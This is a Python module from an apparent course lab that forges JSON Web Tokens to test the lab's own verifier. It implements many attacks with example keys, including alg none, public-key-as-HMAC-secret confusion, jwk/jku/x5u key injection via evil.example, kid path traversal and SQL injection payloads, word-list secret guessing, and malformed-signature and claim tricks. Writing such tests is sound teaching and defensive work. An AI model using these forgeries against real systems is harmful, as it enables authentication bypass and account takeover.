"""The forger's tools: every attack makes real tokens, to be put to a real verifier. Only for the course's own door.

    ATTACKS["alg none"].tokens -> what is shown to the door, one after the other; the attack works if the last one opens

The forger has a token of Ada's, the public keys, and a key pair of their own (an EXAMPLE).
"""

from __future__ import annotations

import hmac
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from functools import cached_property
from typing import Any

from labs.tokens.attacks.door import GOOD, KEYS, TYP, WEAK, signed_by
from labs.tokens.attacks.doors import Web, pem
from labs.tokens.examples import AUDIENCE, ED25519, NOW, example_key
from labs.tokens.jws import base64url, public_jwk, read_key, sign

EVIL_PAGE = "https://evil.example/key.json"
COMMON = ("123456", "password", "qwerty", "letmein", "sunshine", "secret")
"""The first words of a word list."""
MINE: dict[str, Any] = {**ED25519, "alg": "Ed25519"}
"""The forger's own key (an EXAMPLE: RFC 8037's)."""


@dataclass(frozen=True)
class Attack:
    """`forge` makes the tokens, shown one after the other; `trick` says what the forger hopes for."""

    name: str
    trick: str
    forge: Callable[[], tuple[str, ...]]
    now: float = NOW

    @cached_property
    def tokens(self) -> tuple[str, ...]:
        """What is shown to the door: made once, when it is first asked for."""
        return self.forge()


def adas() -> str:
    """The token of Ada's that the forger has."""
    return GOOD["RS256"]


def part(value: Any) -> str:
    """JSON, in base64url."""
    return base64url.encode(value if isinstance(value, bytes) else written(value))


def written(value: Any) -> bytes:
    """JSON as the issuer writes it, without spaces: what differs from Ada's token is what was forged."""
    return json.dumps(value, separators=(",", ":")).encode()


def claims_of(token: str) -> dict[str, Any]:
    """What a token says. It takes no key."""
    read: dict[str, Any] = json.loads(base64url.decode(token.split(".")[1]))
    return read


def kid_of(token: str) -> Any:
    """The key that a token names."""
    return json.loads(base64url.decode(token.split(".")[0])).get("kid")


def begun_with(token: str) -> str:
    """The good token of Ada's that a forgery is best compared with: signed by the key that the forgery names."""
    return {"spring": GOOD["ES256"], "office": GOOD["HS256"]}.get(kid_of(token), adas())


def made(token: str) -> str:
    """How the forger has come by it: it is Ada's own, or "signed" with a trusted key, spelt well, or else "forged"."""
    if token == begun_with(token):
        return "Ada's own"
    signing_input, _, tail = token.rpartition(".")
    try:
        signature = base64url.decode(tail)
    except ValueError:
        return "forged"
    key = KEYS.get(kid_of(token))
    return "signed" if key and key.fits(signing_input.encode(), signature) else "forged"


def as_admin(**more: Any) -> dict[str, Any]:
    """Ada's claims, with the role that the forger wants."""
    return {**claims_of(adas()), "role": "admin", **more}


def bare(alg: str, signature: str = "", **header: Any) -> str:
    """A token with this text for its signature."""
    return f"{part({'alg': alg, 'kid': 'winter', 'typ': TYP, **header})}.{part(as_admin())}.{signature}"


def with_hmac(secret: bytes, header: Mapping[str, Any]) -> str:
    """A token signed with a secret that the forger has, or has guessed."""
    signing_input = f"{part({'alg': 'HS256', 'typ': TYP, **header})}.{part(as_admin())}"
    return f"{signing_input}.{base64url.encode(hmac.digest(secret, signing_input.encode(), 'sha256'))}"


def with_mine(**header: Any) -> str:
    """A token signed with the forger's own key."""
    return sign(written(as_admin()), read_key(MINE), {"typ": TYP, **header})


def guessed(token: str) -> bytes:
    """The secret of an HS256 token, by trying every word of the list: no door is needed for that."""
    signing_input, _, signature = token.rpartition(".")
    for word in COMMON:
        if base64url.encode(hmac.digest(word.encode(), signing_input.encode(), "sha256")) == signature:
            return word.encode()
    return b""


def old_token() -> str:
    """A token that the issuer signed with its weak secret."""
    return with_hmac(WEAK, {"kid": "legacy"})


def short_r() -> str:
    """A good ES256 token whose r begins with a zero byte, without that byte: 63 bytes for 64."""
    key = example_key("ES256", "spring")
    for i in range(5000):
        token = sign(written({**claims_of(adas()), "n": i}), key, {"typ": TYP})
        signing_input, _, signature = token.rpartition(".")
        made = base64url.decode(signature)
        if made[0] == 0:
            return f"{signing_input}.{base64url.encode(made[1:])}"
    raise AssertionError("one signature in 256 has such an r")


def spare_bits(token: str) -> str:
    """The same bytes in another spelling: the last character has bits that count for nothing."""
    last = base64url.ALPHABET.index(token[-1])
    return token[:-1] + base64url.ALPHABET[last + 1]


def twice(token_header: bytes, payload: bytes) -> str:
    """Header and payload as they are, signed by the issuer's HS256 key."""
    signing_input = f"{part(token_header)}.{part(payload)}"
    signature = example_key("HS256").algorithm.sign(example_key("HS256").signs_with, signing_input.encode())
    return f"{signing_input}.{base64url.encode(signature)}"


def _pasted() -> str:
    """The issuer pastes a display name into JSON as text; the forger's name is `x","role":"admin`."""
    pasted = written({**claims_of(GOOD["HS256"]), "name": "NAME"}).replace(b"NAME", b'x","role":"admin')
    return twice(written({"alg": "HS256", "kid": "office", "typ": TYP}), pasted)


def _two_algs() -> str:
    return twice(b'{"alg":"none","alg":"HS256","kid":"office","typ":"at+jwt"}', written(claims_of(GOOD["HS256"])))


def _stripped() -> str:
    return f"{adas().split('.')[0]}.{part(as_admin())}."


def _payload_changed() -> str:
    head, _, tail = adas().split(".")
    return f"{head}.{part(as_admin())}.{tail}"


def _public_as_secret(kid: str) -> str:
    return with_hmac(pem(KEYS[kid].material), {"kid": kid})


def _one_byte() -> str:
    """Try one-byte signatures until the right one must have been among them; here it is worked out with the key."""
    signing_input = f"{part({'alg': 'HS256', 'kid': 'office', 'typ': TYP})}.{part(as_admin())}"
    whole = example_key("HS256").algorithm.sign(example_key("HS256").signs_with, signing_input.encode())
    return f"{signing_input}.{base64url.encode(whole[:1])}"


Web.pages[EVIL_PAGE] = public_jwk(MINE)
_ATTACKS = [
    Attack("alg none", "The header says that the token is not signed.", lambda: (bare("none"),)),
    Attack("alg nOnE", "The name none, spelt so that a list of forbidden names misses it.", lambda: (bare("nOnE"),)),
    Attack("signature removed", "The header is Ada's; the signature is empty.", lambda: (_stripped(),)),
    Attack("payload changed", "Ada's signature, under other claims.", lambda: (_payload_changed(),)),
    Attack("RS256 → HS256", "The public key, used as if it were a shared secret.",
           lambda: (_public_as_secret("winter"),)),
    Attack("ES256 → HS256", "The other public key, used as if it were a shared secret.",
           lambda: (_public_as_secret("spring"),)),
    Attack("a stranger's key", "Signed by the forger, under the name of a trusted key.",
           lambda: (with_mine(kid="winter"),)),
    Attack("jwk", "The token brings the key that it is to be verified with.",
           lambda: (with_mine(jwk=public_jwk(MINE)),)),
    Attack("jku", "The token says at which address its key is.", lambda: (with_mine(jku=EVIL_PAGE),)),
    Attack("x5u", "The token says at which address a certificate with its key is.",
           lambda: (with_mine(x5u=EVIL_PAGE),)),
    Attack("kid as a path", "The key is a file that is known to be empty.",
           lambda: (with_hmac(b"", {"kid": "../../dev/null"}),)),
    Attack("kid as a query", "The key is whatever the forger's query selects.",
           lambda: (with_hmac(b"mine", {"kid": "x' UNION SELECT 'mine' --"}),)),
    Attack("weak secret", "The secret is guessed with a word list, from one token.",
           lambda: (with_hmac(guessed(old_token()), {"kid": "legacy"}),)),
    Attack("cut-off HMAC", "Only the first byte of a signature: 1 in 256 fits.", lambda: (_one_byte(),)),
    Attack("r = s = 0", "A signature of 64 zero bytes.",
           lambda: (bare("ES256", base64url.encode(bytes(64)), kid="spring"),)),
    Attack("63 bytes for 64", "A second spelling of a good signature.", lambda: (short_r(),)),
    Attack("spare bits", "A second spelling of a good token.", lambda: (spare_bits(GOOD["HS256"]),)),
    Attack("alg twice", "It says alg twice: one reader takes the first, another the last.", lambda: (_two_algs(),)),
    Attack("role twice", "A name pasted into the JSON brings a second role.", lambda: (_pasted(),)),
    Attack("unknown crit", "An extension that must be understood, and is not.",
           lambda: (signed_by("office", {"crit": ["one-use"], "one-use": True}),)),
    Attack("b64 false", "The payload is said not to be base64url.",
           lambda: (twice(b'{"alg":"HS256","kid":"office","typ":"at+jwt","b64":false,"crit":["b64"]}',
                          written(claims_of(adas()))),)),
    Attack("another typ", "An ID token, signed by the same issuer, as an access token.",
           lambda: (signed_by("winter", {"typ": "JWT"}),)),
    Attack("another audience", "Ada's token for the bank.", lambda: (signed_by("winter", aud="bank.example"),)),
    Attack("part of audience", "Meant for a name that contains ours.",
           lambda: (signed_by("winter", aud=f"{AUDIENCE}.evil.example"),)),
    Attack("another issuer", "It speaks in somebody else's name.",
           lambda: (signed_by("winter", iss="evil.example"),)),
    Attack("part of issuer", "An issuer whose name is a part of ours.", lambda: (signed_by("winter", iss="login"),)),
    Attack("expired", "Ada's token, a second after its end.", lambda: (adas(),), NOW + 301),
    Attack("no exp", "A token that never ends.", lambda: (signed_by("winter", exp=None),)),
    Attack("not yet valid", "A token that begins a second from now.",
           lambda: (signed_by("winter", nbf=NOW + 1, exp=NOW + 600),)),
    Attack("replay", "Ada's token, a second time.", lambda: (adas(), adas())),
]  # fmt: skip
ATTACKS = {attack.name: attack for attack in _ATTACKS}
